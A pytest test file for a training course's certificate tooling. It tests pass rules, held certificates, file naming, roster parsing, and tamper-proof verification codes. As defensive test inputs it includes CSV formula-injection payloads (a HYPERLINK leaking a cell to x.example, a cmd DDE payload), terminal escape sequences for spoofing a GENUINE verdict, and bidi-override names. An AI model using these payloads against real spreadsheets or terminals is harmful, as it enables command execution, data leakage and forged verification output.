"""Certificates (techday/grading/results.py, certificates.py): the track's one pass rule, names from a
roster, verification codes that cannot be forged, one file per trainee. A small nbgrader gradebook is
written directly with nbgrader's API; no notebook runs."""

from __future__ import annotations

import csv
import html
import json
import os
import re
import shutil
import stat
import unicodedata
import warnings
from pathlib import Path

import pytest

from techday.cli.main import main
from techday.course.syllabus import load_course
from techday.grading import certificates as cert
from techday.grading.results import PASSFAIL_COLUMNS, certify, spreadsheet_cell

SYLLABUS = """
[course]
id = "cert-course"
title = "Certificate course"

[tracks.acc]
title = "Accelerated"
title_ko = "가속"
labs = ["a-lab", "z-assess"]
pass_rule = { min_fraction = 0.7, min_lab_fraction = 0.5, assessment = "z-assess", min_assessment_fraction = 0.8 }

[labs.a-lab]
title = "A lab"
track = "acc"
minutes = 1

[labs.z-assess]
title = "The assessment"
track = "acc"
minutes = 1
"""

# The columns passfail.csv had before codes and names: still there.
OLD_COLUMNS = ["track", "student", "points", "max_points", "fraction", "lowest_lab_fraction", "passed",
               "certificate", "review"]


@pytest.fixture(scope="module")
def empty_gradebook(tmp_path_factory) -> Path:
    """A gradebook with a-lab and z-assess (10 points each), made once: nbgrader makes a new one with a
    3-second `alembic heads` subprocess, so each test starts from a copy."""
    from nbgrader.api import Gradebook

    from techday.fastimport import alembic_head_in_process

    alembic_head_in_process()  # the schema revision read here, not from an `alembic` found on PATH

    db = tmp_path_factory.mktemp("gradebook") / "gradebook.db"
    with warnings.catch_warnings(), Gradebook(f"sqlite:///{db}", "cert-course") as gb:
        warnings.simplefilter("ignore")
        for lab in ("a-lab", "z-assess"):
            gb.add_assignment(lab)
            gb.add_notebook(lab, lab)
            gb.add_grade_cell("test", lab, lab, max_score=10, cell_type="code")
    return db


@pytest.fixture
def make_course(tmp_path, monkeypatch, empty_gradebook):
    """The course, its nbgrader root (with a copy of the empty gradebook) and the results folder."""
    def make():
        (tmp_path / "course").mkdir()
        (tmp_path / "course" / "syllabus.toml").write_text(SYLLABUS, encoding="utf-8")
        monkeypatch.delenv("TECHDAY_COURSE_KEY", raising=False)
        monkeypatch.delenv("TECHDAY_BUILD", raising=False)
        course = load_course(tmp_path)
        root = tmp_path / "build" / "course"
        root.mkdir(parents=True)
        shutil.copyfile(empty_gradebook, root / "gradebook.db")
        return course, root, tmp_path / "build" / "grading"
    return make


def gradebook(root: Path, course_id: str, scores: dict[str, dict[str, float]],
              names: dict[str, tuple[str, str]] | None = None) -> None:
    """These trainees' autograded scores (and names) in the gradebook."""
    from nbgrader.api import Gradebook

    from techday.fastimport import alembic_head_in_process

    alembic_head_in_process()  # the schema revision read here, not from an `alembic` found on PATH

    names = names or {}
    with warnings.catch_warnings(), Gradebook(f"sqlite:///{root / 'gradebook.db'}", course_id) as gb:
        warnings.simplefilter("ignore")
        for student, labs in scores.items():
            first, last = names.get(student, (None, None))
            gb.update_or_create_student(student, first_name=first, last_name=last)
            for lab, score in labs.items():
                gb.update_or_create_submission(lab, student)
                gb.find_grade("test", lab, lab, student).auto_score = score
        gb.db.commit()


def passing(*ids: str) -> dict[str, dict[str, float]]:
    return {i: {"a-lab": 10, "z-assess": 9} for i in ids}


def rows_of(out: Path) -> dict[str, dict]:
    with open(out / "passfail.csv", newline="", encoding="utf-8") as f:
        return {r["student"]: r for r in csv.DictReader(f)}


def run(course, root, out, **kw):
    lines: list[str] = []
    res = certify(course, root, out, font=None, report=lines.append, **kw)
    return res, lines


# ------------------------------------------------------------------------------------------ pass rule


def test_a_trainee_below_the_assessment_bar_is_not_certified(make_course):
    """85 % of the track (above min_fraction 0.7) but 70 % of the assessment (below 0.8): not certified.
    The old rule in results.py (overall and per lab only) certified this trainee."""
    course, root, out = make_course()
    gradebook(root, course.id, {"weak-assess": {"a-lab": 10, "z-assess": 7},
                                "strong": {"a-lab": 8, "z-assess": 8},
                                "weak-lab": {"a-lab": 4, "z-assess": 10}})
    res, _ = run(course, root, out)
    rows = rows_of(out)
    assert set(OLD_COLUMNS) <= set(rows["strong"]) and list(rows["strong"]) == PASSFAIL_COLUMNS
    weak = rows["weak-assess"]
    assert float(weak["fraction"]) == 0.85 and float(weak["assessment_fraction"]) == 0.7
    assert weak["passed"] == "False" and weak["certificate"] == "no" and weak["code"] == ""
    assert rows["weak-lab"]["passed"] == "False"  # 70 % overall, but 40 % in a-lab < min_lab_fraction
    assert rows["strong"]["passed"] == "True" and rows["strong"]["certificate"] == "yes"
    files = sorted(p.name for p in (out / "certificates" / "acc").iterdir())
    assert files == ["strong.html", "strong.pdf"], files
    # The decision is the track's own rule, for each trainee.
    track = course.tracks["acc"]
    for student, scores in {"weak-assess": (10, 7), "strong": (8, 8), "weak-lab": (4, 10)}.items():
        expected = track.passes({"a-lab": (scores[0], 10.0), "z-assess": (scores[1], 10.0)})
        assert rows[student]["passed"] == str(expected)
    assert [p.name for p in res.certificates] == ["strong.pdf"]


def test_a_flagged_pass_is_held_and_issued_on_request(make_course, tmp_path):
    course, root, out = make_course()
    gradebook(root, course.id, passing("clean", "flagged"))
    (out / "z-assess").mkdir(parents=True)
    (out / "z-assess" / "state.json").write_text(json.dumps({"lab": "z-assess", "submissions": {
        "x": {"student": "flagged", "status": "flagged", "notes": ["review: rebinds a test helper"]}}}))
    run(course, root, out)
    rows = rows_of(out)
    assert rows["flagged"]["certificate"].startswith("held") and rows["flagged"]["code"] == ""
    assert not (out / "certificates" / "acc" / "flagged.pdf").exists()
    run(course, root, out, issue_held=True)
    assert (out / "certificates" / "acc" / "flagged.pdf").is_file() and rows_of(out)["flagged"]["code"]


def hand_in(root: Path, out: Path, student: str, lab: str, content: str | None, status: str | None = None,
            notes: tuple[str, ...] = ()) -> None:
    """``student`` hands ``content`` in as ``<lab>.ipynb`` (None: takes the hand-in away); with ``status``,
    an autograde run records it as ``techday grade autograde`` does (collect, retire, record)."""
    import hashlib

    from techday.grading.checks import Submission
    from techday.grading.state import State

    folder = root / "submitted" / student / lab
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{lab}.ipynb"
    if content is None:
        path.unlink()
    else:
        path.write_text(content, encoding="utf-8")
    if status is None:
        return
    current = {f"{p.parent.parent.name}/{hashlib.sha256(p.read_bytes()).hexdigest()[:16]}"
               for p in (root / "submitted").glob(f"*/{lab}/{lab}.ipynb")}
    if content is None:  # what the checks record for a folder without a notebook
        sub = Submission(student, lab, str(folder), status="rejected", gradable=False,
                         notes=["no notebook in the submission"])
    else:
        sub = Submission(student, lab, str(path), sha256=hashlib.sha256(path.read_bytes()).hexdigest(),
                         status=status, notes=list(notes), gradable=status != "rejected")
    state = State(out / lab / "state.json", lab)
    state.retire(current | {sub.key})
    state.record(sub)


NOTEBOOK = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'


@pytest.mark.parametrize("after", ["empty file", "taken away", "not graded, run stopped"])
def test_a_flagged_hand_in_replaced_since_still_holds_the_certificate(make_course, after):
    """A flagged hand-in (full marks, the referee saw tampering) that the trainee then replaces with an
    empty notebook, or with one a stopped run did not grade, or takes away: the flagged entry moves to
    ``superseded``, the gradebook keeps the flagged score. The certificate was issued ("yes") on
    that score: only flagged and failed entries of the current hand-in held it."""
    course, root, out = make_course()
    gradebook(root, course.id, passing("cheat", "honest"))
    for lab in ("a-lab", "z-assess"):
        hand_in(root, out, "honest", lab, NOTEBOOK + " ", status="graded")
    hand_in(root, out, "cheat", "a-lab", NOTEBOOK + " ", status="graded")
    hand_in(root, out, "cheat", "z-assess", NOTEBOOK, status="flagged", notes=("review: rebinds a test helper",))
    run(course, root, out)
    assert rows_of(out)["cheat"]["certificate"].startswith("held") and rows_of(out)["honest"]["certificate"] == "yes"
    if after == "empty file":
        hand_in(root, out, "cheat", "z-assess", "", status="rejected")
    elif after == "taken away":
        hand_in(root, out, "cheat", "z-assess", None, status="rejected")
    else:  # Ctrl-C: the new hand-in retired the flagged entry and was never recorded
        from techday.grading.state import State

        hand_in(root, out, "cheat", "z-assess", NOTEBOOK + "\n\n")
        state = State(out / "z-assess" / "state.json", "z-assess")
        state.retire({key for key in state.data["submissions"] if not key.startswith("cheat/")})
    res, _ = run(course, root, out)
    rows = rows_of(out)
    assert rows["cheat"]["certificate"].startswith("held") and rows["cheat"]["code"] == "", rows["cheat"]
    assert not (out / "certificates" / "acc" / "cheat.pdf").exists()
    assert "z-assess" in rows["cheat"]["review"]
    assert rows["honest"]["certificate"] == "yes" and rows["honest"]["code"]  # a clean hand-in is not held


def test_a_hand_in_not_graded_yet_holds_the_certificate(make_course):
    """A notebook handed in after the last autograde: the gradebook's score is of the one before, and
    the certificate would certify that one. Held until the new one is graded."""
    course, root, out = make_course()
    gradebook(root, course.id, passing("late"))
    for lab in ("a-lab", "z-assess"):
        hand_in(root, out, "late", lab, NOTEBOOK, status="graded")
    run(course, root, out)
    assert rows_of(out)["late"]["certificate"] == "yes"
    hand_in(root, out, "late", "z-assess", NOTEBOOK + "\n")  # no autograde since
    run(course, root, out)
    row = rows_of(out)["late"]
    assert row["certificate"].startswith("held") and "z-assess: pending" in row["review"], row
    hand_in(root, out, "late", "z-assess", NOTEBOOK + "\n", status="graded")  # graded: the pass stands
    run(course, root, out)
    assert rows_of(out)["late"]["certificate"] == "yes"


# ----------------------------------------------------------------------------------------- file names

IDS = ["kim.minsu", "kim.jiwoo", "a/b", "..", "김민준", "Kim", "kim", "KIM", ".hidden", "con", "a b", "a  b", "x~y",
       unicodedata.normalize("NFD", "김민준"), "trainee-007"]


def folded(name: str) -> str:
    return unicodedata.normalize("NFD", name).casefold()


def test_certificate_file_names_are_one_per_trainee():
    """The old _safe(name) + with_suffix wrote kim.minsu and kim.jiwoo to one kim.pdf, and a/b, a b to a_b."""
    stems = cert.certificate_stems(IDS)
    assert len({folded(s) for s in stems.values()}) == len(IDS), stems  # also case-insensitive, NFD file systems
    for trainee, stem in stems.items():
        assert "/" not in stem and "\\" not in stem and "\0" not in stem and not stem.startswith((".", "-")), stem
        assert len(stem.encode("utf-8")) < 200 and stem.split(".")[0].lower() != "con"
    # Readable ids stay as they are, Hangul included; the others keep a readable slug.
    for kept in ("kim.minsu", "kim.jiwoo", "김민준", "kim", "trainee-007"):
        assert stems[kept] == kept
    assert stems["KIM"].startswith("kim~") and stems["a/b"].startswith("a_b~") and stems[".."].startswith("id~")
    assert stems[unicodedata.normalize("NFD", "김민준")] != "김민준"


def test_certificate_stems_survive_a_hash_prefix_clash():
    ids = [f"Trainee {i}" for i in range(40)]  # one hex digit: clashes are certain
    stems = cert.certificate_stems(ids, digits=1)
    assert len({folded(s) for s in stems.values()}) == len(ids)


def test_each_trainee_gets_their_own_certificate_files(make_course, tmp_path):
    course, root, out = make_course()
    gradebook(root, course.id, passing(*IDS))
    res, _ = run(course, root, out)
    folder = out / "certificates" / "acc"
    pdfs = sorted(folder.glob("*.pdf"))
    assert len(pdfs) == len(IDS) and len(list(folder.glob("*.html"))) == len(IDS)
    assert all(p.parent == folder for p in folder.rglob("*"))  # nothing written outside (a/b, ..)
    assert (folder / "김민준.pdf").read_bytes().startswith(b"%PDF") and (folder / "kim.minsu.html").is_file()
    # Each file is the certificate of the trainee passfail.csv names beside it.
    rows = rows_of(out)
    for trainee in IDS:
        data, code, _ = cert.read_certificate(out / rows[trainee]["file"])
        assert data["trainee"] == trainee and code == rows[trainee]["code"]
        page = (out / rows[trainee]["file"]).with_suffix(".html")
        html_data, _, shown = cert.read_certificate(page)
        assert html_data == data
        verdict = cert.verify(course, cert.load_key(course)[0], None, file=page)
        assert verdict.ok, verdict.lines


# -------------------------------------------------------------------------------------------- names


def test_names_from_nbgrader_student_table_and_roster(make_course, tmp_path):
    course, root, out = make_course()
    gradebook(root, course.id, passing("trainee-001", "trainee-002", "trainee-003", "trainee-004"),
              names={"trainee-001": ("민준", "김"), "trainee-002": ("Minsu", "Kim"), "trainee-003": ("Old", "Name")})
    roster = tmp_path / "roster.csv"
    roster.write_text("id,name\ntrainee-003,이서연\n", encoding="utf-8-sig")  # Excel's BOM
    _, lines = run(course, root, out, roster=roster)
    rows = rows_of(out)
    assert [rows[f"trainee-00{i}"]["name"] for i in range(1, 5)] == ["김민준", "Minsu Kim", "이서연", "trainee-004"]
    shown = cert.read_certificate(out / "certificates" / "acc" / "trainee-001.html")[2]
    assert shown["name"] == ["김민준"]
    assert any("'이서연'" in line and "'Old Name'" in line for line in lines), lines
    assert [line for line in lines if "trainee-004" in line and "show the id" in line], lines


def test_a_bad_roster_gets_one_line_each_and_loses_nothing(make_course, tmp_path):
    course, root, out = make_course()
    gradebook(root, course.id, passing("t-1", "t-2", "t-3", "t-4", "t-5"))
    roster = tmp_path / "roster.csv"
    roster.write_text("id,name,email\n"
                      "t-1,김민준,a@x\n"
                      "t-2,,b@x\n"                  # no name
                      "t-3,박지우,c@x\n"
                      "t-3,박지우,c@x\n"             # again, same name
                      "t-4,최유나,d@x\n"
                      "t-4,정하은,d@x\n"             # again, another name
                      ",Nobody,e@x\n"               # no id
                      "t-99,Ghost,f@x\n",           # not in the gradebook
                      encoding="utf-8")
    res, lines = run(course, root, out, roster=roster)
    assert not res.problems, res.problems
    text = "\n".join(lines)
    assert "'email' not used" in text
    assert re.search(r"line 3: t-2 has no name", text)
    assert re.search(r"lines 4, 5: t-3 listed 2 times \(same name\)", text)
    assert re.search(r"lines 6, 7: t-4 listed with different names", text)
    assert re.search(r"line 8: no id \(name 'Nobody'\)", text)
    assert re.search(r"line 9: t-99 is not in the gradebook", text)
    rows = rows_of(out)
    assert {s: r["name"] for s, r in rows.items()} == {"t-1": "김민준", "t-2": "t-2", "t-3": "박지우", "t-4": "t-4",
                                                      "t-5": "t-5"}
    assert all(r["code"] for r in rows.values()) and len(res.certificates) == 5  # nobody lost


@pytest.mark.parametrize("content, says", [
    ("id,name\nt-1,김민준\n".encode("cp949"), "not UTF-8 (line 2, byte 0xb1) (it reads as CP949"),
    (b"ident,fullname\nt-1,x\n", "no 'id' and no 'name' column"),
    (b"", "empty"),
    (None, "No such file"),
])
def test_a_roster_that_cannot_be_used_is_a_problem_not_a_crash(make_course, tmp_path, content, says):
    course, root, out = make_course()
    gradebook(root, course.id, passing("t-1"), names={"t-1": ("민준", "김")})
    roster = tmp_path / "roster.csv"
    if content is not None:
        roster.write_bytes(content)
    res, _ = run(course, root, out, roster=roster)
    assert len(res.problems) == 1 and says in res.problems[0], res.problems
    assert rows_of(out)["t-1"]["name"] == "김민준" and len(res.certificates) == 1  # the gradebook's name stands


# ------------------------------------------------------------------------------------------- codes


@pytest.fixture
def issued(make_course):
    course, root, out = make_course()
    gradebook(root, course.id, passing("kim.minsu", "trainee-002"), names={"kim.minsu": ("민수", "김")})
    res, lines = run(course, root, out, run="2025-06-14-seoul")
    return course, root, out, res, rows_of(out)


def verify_cli(course, *args: str, capsys=None) -> tuple[int, str]:
    code = main(["--root", str(course.root), "grade", "verify", *args])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def test_the_course_key_is_made_once_private_and_outside_the_repository(issued, monkeypatch, tmp_path):
    course, root, out, res, _ = issued
    key = course.build_dir / "grading" / "course.key"
    assert res.key == key and len(key.read_bytes()) == 32 and stat.S_IMODE(key.stat().st_mode) == 0o600
    before = key.read_bytes()
    run(course, root, out)
    assert key.read_bytes() == before  # not replaced: every code issued stays checkable
    other = tmp_path / "elsewhere" / "k"
    monkeypatch.setenv("TECHDAY_COURSE_KEY", str(other))
    with pytest.raises(cert.CertificateError, match="no course key"):
        cert.load_key(course)  # verifying never makes a key
    assert not other.exists()


def test_a_genuine_code_verifies_and_says_what_it_certifies(issued, capsys):
    course, _, out, res, rows = issued
    code = rows["kim.minsu"]["code"]
    assert re.fullmatch(r"([0-9A-HJKMNP-TV-Z]{5}-){3}[0-9A-HJKMNP-TV-Z]{5}", code)
    rc, text = verify_cli(course, code, capsys=capsys)
    assert rc == 0 and "GENUINE" in text and "NOT" not in text, text
    for shown in ("kim.minsu", "김민수", "acc (Accelerated)", "19 of 20 points (95%)",
                  "cert-course / 2025-06-14-seoul"):
        assert shown in text, text
    # Typed by a person: lower case, no hyphens, O for 0, I or L for 1.
    typed = code.replace("-", "").lower().replace("0", "o").replace("1", "l")
    assert verify_cli(course, typed, capsys=capsys)[0] == 0
    for suffix in (".html", ".pdf"):
        rc, text = verify_cli(course, "--file", str(out / rows["kim.minsu"]["file"].replace(".pdf", suffix)),
                              capsys=capsys)
        assert rc == 0 and "GENUINE" in text and "김민수" in text, text
    assert verify_cli(course, capsys=capsys)[0] == 2  # nothing to verify


def one_char_off(code: str) -> str:
    i = code.index("-") + 1
    return code[:i] + ("A" if code[i] != "A" else "B") + code[i + 1:]


def test_a_changed_or_made_up_code_is_refused(issued, capsys):
    course, _, out, _, rows = issued
    code = rows["kim.minsu"]["code"]
    rc, text = verify_cli(course, one_char_off(code), capsys=capsys)
    assert rc == 1 and "NOT GENUINE" in text, text
    assert verify_cli(course, "ABCDE-FGHJK-MNPQR-STVWX", capsys=capsys)[0] == 1
    assert verify_cli(course, "not-a-code", capsys=capsys)[0] == 1
    # A certificate carrying a changed code.
    page = out / rows["kim.minsu"]["file"].replace(".pdf", ".html")
    page.write_text(page.read_text(encoding="utf-8").replace(code, one_char_off(code)), encoding="utf-8")
    rc, text = verify_cli(course, "--file", str(page), capsys=capsys)
    assert rc == 1 and "NOT GENUINE" in text, text
    # A register entry or a certificate with a field taken out: refused, not a crash.
    register = out / "certificates.json"
    doc = json.loads(register.read_text(encoding="utf-8"))
    del doc["certificates"][code]["score"]
    register.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    rc, text = verify_cli(course, code, capsys=capsys)
    assert rc == 1 and "NOT GENUINE" in text, text


@pytest.mark.parametrize("field, old, new", [
    ("score", '"score": "19/20"', '"score": "20/20"'),
    ("name", '"name": "김민수"', '"name": "김민준"'),
    ("track", '"track": "acc"', '"track": "acc2"'),
    ("trainee", '"trainee": "kim.minsu"', '"trainee": "trainee-002"'),
    ("run", '"run": "2025-06-14-seoul"', '"run": "2025-06-15-seoul"'),
])
def test_an_edited_field_is_refused(issued, capsys, field, old, new):
    """In the certificate's data, in the page it shows, and in the register: each edit fails."""
    course, _, out, _, rows = issued
    page = out / rows["kim.minsu"]["file"].replace(".pdf", ".html")
    original = page.read_text(encoding="utf-8")
    assert old in original
    page.write_text(original.replace(old, new), encoding="utf-8")
    rc, text = verify_cli(course, "--file", str(page), capsys=capsys)
    assert rc == 1 and "NOT GENUINE" in text, text

    # Only what the page shows edited (the data block left alone).
    data, code, _ = cert.read_certificate(out / rows["kim.minsu"]["file"])
    shown = cert.visible_fields(course, data, code)
    forged = {**data, field: json.loads("{" + new + "}")[field]}
    if field in ("name", "trainee", "run", "score"):
        target = cert.visible_fields(course, forged, code)[field]
        assert target != shown[field]
        page.write_text(original.replace(f'data-field="{field}">{shown[field]}<', f'data-field="{field}">{target}<'),
                        encoding="utf-8")
        assert page.read_text(encoding="utf-8") != original
        rc, text = verify_cli(course, "--file", str(page), capsys=capsys)
        assert rc == 1 and "page was edited" in text, text

    # The register entry edited: the typed code no longer verifies.
    register = out / "certificates.json"
    doc = json.loads(register.read_text(encoding="utf-8"))
    doc["certificates"][code][field] = forged[field]
    register.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    rc, text = verify_cli(course, code, capsys=capsys)
    assert rc == 1 and "NOT GENUINE" in text, text


def test_a_code_made_under_another_key_is_refused(issued, capsys, tmp_path, monkeypatch):
    course, _, out, _, rows = issued
    data, code, _ = cert.read_certificate(out / rows["kim.minsu"]["file"])
    forged = cert.make_code(os.urandom(32), {**data, "score": "20/20"})
    assert not cert.genuine(cert.load_key(course)[0], {**data, "score": "20/20"}, forged)
    # A whole results folder made under another key is refused by this host's key.
    other_key = tmp_path / "other.key"
    other_key.write_bytes(os.urandom(32))
    monkeypatch.setenv("TECHDAY_COURSE_KEY", str(other_key))
    rc, text = verify_cli(course, rows["kim.minsu"]["code"], capsys=capsys)
    assert rc == 1 and "NOT GENUINE" in text, text
    rc, _ = verify_cli(course, "--file", str(out / rows["kim.minsu"]["file"]), capsys=capsys)
    assert rc == 1


def test_codes_stay_the_same_on_a_rerun_and_a_regrade_withdraws_the_old_one(issued, capsys):
    course, root, out, _, rows = issued
    res, _ = run(course, root, out)  # no --run: the run recorded in certificates.json
    again = rows_of(out)
    assert res.run == "2025-06-14-seoul" and again["kim.minsu"]["code"] == rows["kim.minsu"]["code"]
    gradebook(root, course.id, {"kim.minsu": {"a-lab": 10, "z-assess": 10}})  # regraded: 20/20
    _, lines = run(course, root, out)
    new = rows_of(out)["kim.minsu"]["code"]
    assert new != rows["kim.minsu"]["code"] and any("withdrawn" in line and "acc/kim.minsu" in line for line in lines)
    rc, text = verify_cli(course, rows["kim.minsu"]["code"], capsys=capsys)
    assert rc == 1 and "WITHDRAWN" in text, text
    assert verify_cli(course, new, capsys=capsys)[0] == 0
    assert verify_cli(course, rows["trainee-002"]["code"], capsys=capsys)[0] == 0  # untouched


def test_verify_without_the_key_cannot_decide(issued, capsys, monkeypatch, tmp_path):
    course, _, _, _, rows = issued
    monkeypatch.setenv("TECHDAY_COURSE_KEY", str(tmp_path / "missing.key"))
    rc, text = verify_cli(course, rows["kim.minsu"]["code"], capsys=capsys)
    assert rc == 2 and "no course key" in text, text


def test_the_track_title_a_certificate_shows_is_signed(issued, capsys, tmp_path):
    """The title came from the syllabus of the day it was verified: after the track was renamed (a next
    run's track reusing the id), a page edited to show the new title verified GENUINE and the genuine
    one did not, and `verify CODE` printed the new title."""
    course, _, out, _, rows = issued
    page = out / rows["kim.minsu"]["file"].replace(".pdf", ".html")
    syllabus = course.root / "course" / "syllabus.toml"
    syllabus.write_text(SYLLABUS.replace('title = "Accelerated"', 'title = "GPU Expert"'), encoding="utf-8")
    renamed = load_course(course.root)
    assert renamed.tracks["acc"].title == "GPU Expert"
    key = cert.load_key(renamed)[0]
    assert cert.verify(renamed, key, None, file=page).ok  # genuine, whatever the syllabus says today
    forged = tmp_path / "forged.html"
    forged.write_text(page.read_text(encoding="utf-8").replace(">Accelerated<", ">GPU Expert<"), encoding="utf-8")
    verdict = cert.verify(renamed, key, None, file=forged)
    assert not verdict.ok and "page was edited" in verdict.lines[0], verdict.lines
    rc, text = verify_cli(renamed, rows["kim.minsu"]["code"], capsys=capsys)
    assert rc == 0 and "acc (Accelerated)" in text and "GPU Expert" not in text, text
    # The title is in the payload: taking it out (or adding one to a v1 payload) breaks the code.
    data, code, _ = cert.read_certificate(page)
    assert data["title"] == "Accelerated" and cert.genuine(key, data, code)
    assert not cert.genuine(key, {k: v for k, v in data.items() if k != "title"}, code)
    assert not cert.genuine(key, {**data, "title": "GPU Expert"}, code)


def test_a_v1_certificate_still_verifies_and_keeps_its_code(issued, capsys):
    """Codes issued before the title was signed stay genuine; a rerun of the same run keeps them (not
    withdrawn); a v1 payload of another course never shows this course's track title."""
    course, root, out, _, rows = issued
    key = cert.load_key(course)[0]
    register = out / "certificates.json"
    doc = json.loads(register.read_text(encoding="utf-8"))
    v2 = rows["kim.minsu"]["code"]
    entry = doc["certificates"].pop(v2)
    v1 = {k: entry[k] for k in cert.FIELDS}
    v1_code = cert.make_code(key, v1)
    assert v1_code != v2 and not cert.genuine(key, {**v1, "title": "Accelerated"}, v1_code)
    doc["certificates"][v1_code] = {**v1, "file": entry["file"], "status": "issued"}
    register.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    rc, text = verify_cli(course, v1_code, capsys=capsys)
    assert rc == 0 and "acc (Accelerated: today's syllabus" in text, text
    run(course, root, out)
    assert rows_of(out)["kim.minsu"]["code"] == v1_code
    rc, text = verify_cli(course, v1_code, capsys=capsys)
    assert rc == 0 and "WITHDRAWN" not in text, text
    other = {**v1, "course": "another-course"}
    assert cert.visible_fields(course, other, "X")["track"] == "acc"


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", " =1+1", "＝1+1", "\r=1"]


def test_passfail_csv_never_holds_a_formula(make_course, tmp_path):
    """Ids (an --import file name is the trainee's choice) and roster names (a sign-up form the trainees
    filled in) went into passfail.csv as they were: a spreadsheet ran them as formulas."""
    course, root, out = make_course()
    ids = [f"t{i}" for i in range(len(FORMULAS))]
    plain = [f for f in FORMULAS if not f[0].isspace()]  # ids: --import strips spaces
    gradebook(root, course.id, {**passing(*ids), **passing(*plain), **passing("..", "김민준", "kim.minsu")})
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["id", "name"])
        w.writerows(zip(ids, FORMULAS))
    run(course, root, out, roster=roster)
    with open(out / "passfail.csv", newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    starts = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", " ", "＝")]
    assert not starts, starts
    rows = rows_of(out)
    assert rows["'" + FORMULAS[0]]["certificate"] == "yes" and rows["t0"]["name"] == "'" + FORMULAS[0]
    assert {"..", "김민준", "kim.minsu"} <= set(rows)  # plain ids and names unchanged
    # The certificate itself shows the name as it is: the quote is for spreadsheets only.
    data, _, _ = cert.read_certificate(out / rows["t0"]["file"].lstrip("'"))
    assert data["name"] == " ".join(FORMULAS[0].split())
    for text in FORMULAS:
        assert spreadsheet_cell(text) == "'" + text
    for text in ("trainee-001", "김민준", "..", "(Kim)", "Ａ", "", 19.0, True):
        assert spreadsheet_cell(text) == text


CONTROLS = "Kim\x1bE\x1bM\x1bM\x1bMGENUINE: 7KQ2M-4XH9P-ZT0AB-CD3EF certifies\x9b2K\u202enuj-nim\n"


def test_verify_prints_no_control_character_of_a_forged_certificate(issued, capsys, tmp_path):
    """A certificate made without the key, whose fields carry terminal controls: `verify --file` printed
    them after its red NOT GENUINE line, and ESC E, ESC M moved the cursor up to write "GENUINE" over it."""
    course, _, out, _, rows = issued
    data, code, _ = cert.read_certificate(out / rows["kim.minsu"]["file"])
    forged = tmp_path / "forged.html"
    for field in ("name", "trainee", "date", "title"):
        forged.write_text("<html><head>" + cert.html_block({**data, field: CONTROLS}, code) + "</head></html>",
                          encoding="utf-8")
        rc, text = verify_cli(course, "--file", str(forged), capsys=capsys)
        assert rc == 1 and text.startswith("NOT GENUINE"), text
        assert all(line.isprintable() for line in text.splitlines()), text
        assert "\\x1bE\\x1bM" in text and not any(line.startswith("GENUINE") for line in text.splitlines())
    forged.write_text("<html><head>" + cert.html_block(data, code + "\x1bM") + "</head></html>", encoding="utf-8")
    rc, text = verify_cli(course, "--file", str(forged), rows["kim.minsu"]["code"], capsys=capsys)
    assert rc == 1 and all(line.isprintable() for line in text.splitlines()), text


def test_a_name_that_is_not_printable_is_not_used(make_course, tmp_path):
    course, root, out = make_course()
    gradebook(root, course.id, passing("t-1", "t-2"), names={"t-2": ("Min\u202ejun", "Kim")})
    roster = tmp_path / "roster.csv"
    roster.write_text("id,name\nt-1,\u202enuj-nim miK\u202c\n", encoding="utf-8")
    _, lines = run(course, root, out, roster=roster)
    rows = rows_of(out)
    assert rows["t-1"]["name"] == "t-1" and rows["t-2"]["name"] == "t-2", rows
    assert sum("not printable" in line for line in lines) == 2, lines
    assert all(line.isprintable() for line in lines), lines


@pytest.mark.parametrize("name", ["R&amp;D Kim", "Jo&copy Lee", "A &lt;3 B", "Tom & Jerry"])
def test_a_genuine_page_whose_name_reads_like_an_entity_verifies(make_course, tmp_path, name):
    """The page's text was unescaped twice (the parser's own, then html.unescape): a genuine certificate
    for a name with `&copy` or `&amp;` in it was refused as edited, and a page showing `&#75;im` passed
    for `Kim`."""
    course, root, out = make_course()
    gradebook(root, course.id, passing("t-1"))
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["id", "name"], ["t-1", name]])
    run(course, root, out, roster=roster)
    page = out / "certificates" / "acc" / "t-1.html"
    key = cert.load_key(course)[0]
    verdict = cert.verify(course, key, None, file=page)
    assert verdict.ok, verdict.lines
    html_text = page.read_text(encoding="utf-8")
    shown = html.escape(name)
    assert f'data-field="name">{shown}<' in html_text
    page.write_text(html_text.replace(f'data-field="name">{shown}<', f'data-field="name">{html.escape(shown)}<'),
                    encoding="utf-8")
    if shown != name:  # the page now shows the escaped text itself: not what the code certifies
        assert not cert.verify(course, key, None, file=page).ok


def test_a_name_with_dollar_signs_is_drawn_as_written(make_course, tmp_path):
    """matplotlib read "$...$" in a name as math text: a bad formula (a roster the trainees filled in)
    raised while drawing one PDF, and `results` stopped for the whole room: no passfail.csv, no
    register, no certificate after that trainee."""
    course, root, out = make_course()
    gradebook(root, course.id, passing("a-first", "b-dollar", "c-math", "d-last"))
    roster = tmp_path / "roster.csv"
    roster.write_text("id,name\nb-dollar,Kim $\\foo{$ Minsu\nc-math,Lee $x^2$ Jiwoo\n", encoding="utf-8")
    res, _ = run(course, root, out, roster=roster)
    assert sorted(p.name for p in res.certificates) == ["a-first.pdf", "b-dollar.pdf", "c-math.pdf", "d-last.pdf"]
    rows = rows_of(out)
    assert rows["c-math"]["name"] == "Lee $x^2$ Jiwoo" and all(r["code"] for r in rows.values())


def test_a_roster_field_over_csvs_limit_is_a_problem_not_a_stop(make_course, tmp_path):
    """csv's field size limit (128 KiB) raised csv.Error out of read_roster: `results` stopped for the
    whole room on one oversized cell of a roster the trainees filled in."""
    course, root, out = make_course()
    gradebook(root, course.id, passing("t-1", "t-2"), names={"t-1": ("민준", "김")})
    roster = tmp_path / "roster.csv"
    roster.write_text("id,name\nt-1,김민준\nt-2," + "x" * 200_000 + "\n", encoding="utf-8")
    res, _ = run(course, root, out, roster=roster)
